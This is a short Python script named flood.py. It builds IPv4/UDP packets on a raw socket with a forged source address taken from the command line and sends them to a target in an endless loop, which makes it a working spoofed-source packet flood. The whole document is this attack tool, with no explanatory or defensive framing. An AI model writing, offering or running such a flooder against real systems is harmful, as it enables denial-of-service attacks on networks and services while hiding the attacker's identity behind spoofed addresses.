"""Sends datagrams by eth0, from an address that is not the sender's, until it is killed: flood.py SOURCE DESTINATION"""
import socket
import struct
import sys

source, destination = (socket.inet_aton(word) for word in sys.argv[1:])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
datagram = struct.pack("!HHHH", 4444, 5000, 8 + 6, 0) + b"forged"
# The kernel fills in the checksum.
packet = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), 0, 0, 64, 17, 0) + source + destination + datagram
while True:
    raw.sendto(packet, (sys.argv[2], 0))
